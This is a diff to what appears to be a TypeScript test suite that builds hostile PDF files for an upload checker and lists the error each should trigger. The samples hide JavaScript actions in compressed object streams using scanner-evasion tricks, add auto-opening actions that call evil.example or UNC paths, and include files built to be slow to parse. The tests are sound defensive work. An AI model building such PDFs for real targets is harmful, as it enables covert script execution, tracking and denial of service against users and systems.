@@ -62,14 +62,52 @@ const put = (text: string, behind: string, part: string): Buffer =>
 /** A PDF whose catalogue has one more entry. */
 const pdfWith = (entry: string): Buffer => put(pdf().toString('latin1'), '/Type /Catalog', ` ${entry}`);
 
+const SCRIPT = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
+/** A PDF with one more object before its cross-references. */
+const withObject = (object: string): Buffer =>
+  Buffer.from(
+    pdf()
+      .toString('latin1')
+      .replace('xref\n', () => `${object}xref\n`),
+    'latin1',
+  );
+
 /** A PDF with its script in a packed stream of objects, where no search over the bare bytes finds it. */
-const hiddenScript = (objects = '5 0 << /S /JavaScript /JS (app.alert(1)) >>'): Buffer => {
+const hiddenScript = (objects = SCRIPT, filter = '/FlateDecode'): Buffer => {
   const packed = deflateSync(Buffer.from(objects));
-  const head = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
-  const whole = pdf().toString('latin1');
-  const object = `${head}${packed.toString('latin1')}\nendstream\nendobj\n`;
-  return Buffer.from(whole.replace('xref\n', `${object}xref\n`), 'latin1');
+  const head = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n`;
+  return withObject(`${head}${packed.toString('latin1')}\nendstream\nendobj\n`);
 };
+
+/** The same behind the word that ends a stream, which stands in its packed bytes as they are. */
+const scriptBehindEnd = (): Buffer => {
+  const packed = deflateSync(Buffer.from(`4 0 endstream endobj ${SCRIPT}`), { level: 0 }).toString('latin1');
+  return withObject(
+    `9 0 obj\n<< /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`,
+  );
+};
+
+/** A PDF of a MiB that is a few signs over and over. */
+const over = (signs: string): Buffer =>
+  Buffer.from(`%PDF-1.4\n${signs.repeat((1 << 20) / signs.length)}\n%%EOF`, 'latin1');
+
+/** A PDF that does something which only showing its pages does not need. */
+const active = (what: string, bytes: () => Buffer): Hostile => ({
+  what: `a PDF ${what}`,
+  name: 'permit.pdf',
+  bytes,
+  photo: 'file.type',
+  document: 'file.pdf_active',
+});
+
+/** A PDF that is made to be slow to check, with what it is refused for. */
+const slow = (signs: string, document: string): Hostile => ({
+  what: `a PDF of a MiB of ${JSON.stringify(signs)}`,
+  name: 'permit.pdf',
+  bytes: () => over(signs),
+  photo: 'file.type',
+  document,
+});
 
 export const gps = (bytes: Buffer): boolean => bytes.includes('GPS') || bytes.includes('secret camera');
 
@@ -205,6 +243,39 @@ const FILES: readonly Hostile[] = [
     photo: 'file.type',
     document: 'file.bomb',
   },
+  active('with a script in a stream whose filter stands elsewhere', () => hiddenScript(SCRIPT, '8 0 R')),
+  active('with a script in a stream whose filter stands in a list', () => hiddenScript(SCRIPT, '[/FlateDecode]')),
+  active('with a script in a stream with two filters', () => hiddenScript(SCRIPT, '[/ASCIIHexDecode /FlateDecode]')),
+  active('with a script in a stream behind 70,000 blanks', () =>
+    hiddenScript(SCRIPT, `/FlateDecode /Pad (${' '.repeat(70_000)})`),
+  ),
+  active('with a script in a stream that names two objects', () => hiddenScript(SCRIPT, '/FlateDecode /X (1 0 obj)')),
+  { ...active('with a script behind what looks like its end', scriptBehindEnd), document: 'file.damaged' },
+  active('with an object within the data of a stream', () =>
+    withObject('9 0 obj\n<< /Length 99 >>\nstream\n8 0 obj << /S /URI >> endobj\nendstream\nendobj\n'),
+  ),
+  active('that opens another file', () => pdfWith('/OpenAction << /S /GoToR /F (\\\\evil.example\\s\\x.pdf) >>')),
+  active('that calls an address when it is opened', () =>
+    pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
+  ),
+  active('that calls an address after turning a page', () =>
+    pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>'),
+  ),
+  active('that does what another object says when it is opened', () =>
+    withObject(
+      '8 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj\n9 0 obj\n<< /OpenAction 8 0 R >>\nendobj\n',
+    ),
+  ),
+  active('that acts by itself on a page', () => pdfWith('/AA << /O << /S /URI /URI (https://evil.example) >> >>')),
+  active('that plays a sound', () => pdfWith('/Names << /X << /S /Sound >> >>')),
+  active('that switches its layers', () => pdfWith('/Names << /X << /S /SetOCGState >> >>')),
+  active('with a picture from another place', () =>
+    withObject('9 0 obj\n<< /Length 0 /F (\\\\evil.example\\s\\x) >>\nstream\n\nendstream\nendobj\n'),
+  ),
+  slow('stream ', 'file.damaged'),
+  slow('<<', 'file.damaged'),
+  slow('/OpenAction << ', 'file.damaged'),
+  slow(' endstream stream ', 'file.uncheckable'),
   {
     what: 'a PDF that starts a program',
     name: 'permit.pdf',
